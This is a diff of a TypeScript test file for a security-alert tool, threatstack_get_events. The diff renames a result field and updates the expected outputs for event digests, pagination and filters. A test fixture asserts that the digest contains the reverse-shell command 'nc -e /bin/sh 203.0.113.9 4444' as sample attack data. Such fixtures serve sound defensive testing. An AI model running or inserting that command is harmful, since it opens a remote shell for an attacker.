@@ -18,16 +18,19 @@ const events = Array.from({ length: 301 }, (_, index) => ({
   pid: 1000 + index,
 }));
 
-const tenant = makeTenant({ alerts: [makeAlert({ id: ALERT })], events: { [ALERT]: events } });
+const tenant = makeTenant({
+  alerts: [makeAlert({ id: ALERT, ruleId: "", agentId: "" })],
+  events: { [ALERT]: events },
+});
 
 test("folds every event into a digest that names the one that matters", async () => {
   const { call } = await startTools({ tenant });
 
-  const { text, core } = await call("threatstack_get_events", { alert_id: ALERT });
+  const { text, meta } = await call("threatstack_get_events", { alert_id: ALERT });
 
   expect(text).toMatch(/^301 events/m);
   expect(text).toContain("nc -e /bin/sh 203.0.113.9 4444");
-  expect(core.total).toBe(301);
+  expect(meta.total).toBe(301);
 });
 
 test.each([300, 500, 1000])(
@@ -50,19 +53,19 @@ test("rows reach every event once, in order, whatever the budget", async () => {
   const seen: string[] = [];
   let cursor: string | null | undefined;
   do {
-    const { text, core, tokens } = await call("threatstack_get_events", {
+    const { text, meta, tokens } = await call("threatstack_get_events", {
       alert_id: ALERT,
       detail: "rows",
       max_tokens: 1500,
       ...(cursor && { cursor }),
     });
     expect(tokens).toBeLessThanOrEqual(1500);
-    expect(core.total).toBe(301);
-    seen.push(...(text.match(/\d{8}-0000-4000-8000-000000000000/g) ?? []));
-    cursor = core.next_cursor;
+    expect(meta.total).toBe(301);
+    seen.push(...text.split("\n").flatMap((line) => /^[\d:]{8},(\d{8}),/.exec(line)?.[1] ?? []));
+    cursor = meta.next_cursor;
   } while (cursor);
 
-  expect([...new Set(seen)]).toEqual(events.map(({ _id: id }) => id));
+  expect(seen).toEqual(events.map(({ _id: id }) => id.slice(0, 8)));
 });
 
 test("a filter, a group or an id opens a part, and asking again costs no download", async () => {
@@ -72,16 +75,17 @@ test("a filter, a group or an id opens a part, and asking again costs no downloa
     alert_id: ALERT,
     where: 'user = "root" and exe ends_with "nc"',
   });
-  expect(where.core).toMatchObject({ total: 1, shown: 1, ids: ["00000150"] });
+  expect(where.meta).toMatchObject({ total: 1, shown: 1, ids: ["00000150"] });
 
   const digest = await call("threatstack_get_events", { alert_id: ALERT });
   const [, count, group] = /^(\d+)× (g\w+)/m.exec(digest.text) ?? [];
   const ofGroup = await call("threatstack_get_events", { alert_id: ALERT, group });
-  expect(ofGroup.core.total).toBe(Number(count));
+  expect(ofGroup.meta.total).toBe(Number(count));
 
   const raw = await call("threatstack_get_events", { alert_id: ALERT, event_ids: ["00000150"] });
   expect(raw.text).toContain(JSON.stringify(events[150]));
-  expect(requests()).toBe(1);
+  // The events, their alert, and the inventory for the addresses in them.
+  expect(requests()).toBe(4);
 });
 
 test.each([
@@ -114,10 +118,10 @@ test("a near miss of a field is told, not guessed", async () => {
 test("an alert without events says so", async () => {
   const { call } = await startTools({ tenant: makeTenant({ alerts: [makeAlert({ id: ALERT })] }) });
 
-  const { text, core } = await call("threatstack_get_events", { alert_id: ALERT });
+  const { text, meta } = await call("threatstack_get_events", { alert_id: ALERT });
 
   expect(text).toMatch(/^0 events/);
-  expect(core.total).toBe(0);
+  expect(meta.total).toBe(0);
 });
 
 test.each([{ group: "gnone" }, { event_ids: ["no-such"] }, { where: 'user = "nobody here"' }])(
@@ -125,9 +129,11 @@ test.each([{ group: "gnone" }, { event_ids: ["no-such"] }, { where: 'user = "nob
   async (input) => {
     const { call } = await startTools({ tenant });
 
-    const { text, core } = await call("threatstack_get_events", { alert_id: ALERT, ...input });
+    const { text, meta } = await call("threatstack_get_events", { alert_id: ALERT, ...input });
 
-    expect(text).toMatch(/^0 of 301 events fit \(.+\)\.\nLikely .+\nnext: threatstack_get_events /);
-    expect(core).toMatchObject({ total: 0, shown: 0, truncated: false });
+    expect(text).toMatch(
+      /^0 of 301 events fit \(.+\)\. All were searched\.\n(The|A) .+ may .+\nnext: threatstack_get_events /,
+    );
+    expect(meta).toMatchObject({ total: 0, shown: 0, truncated: false });
   },
 );
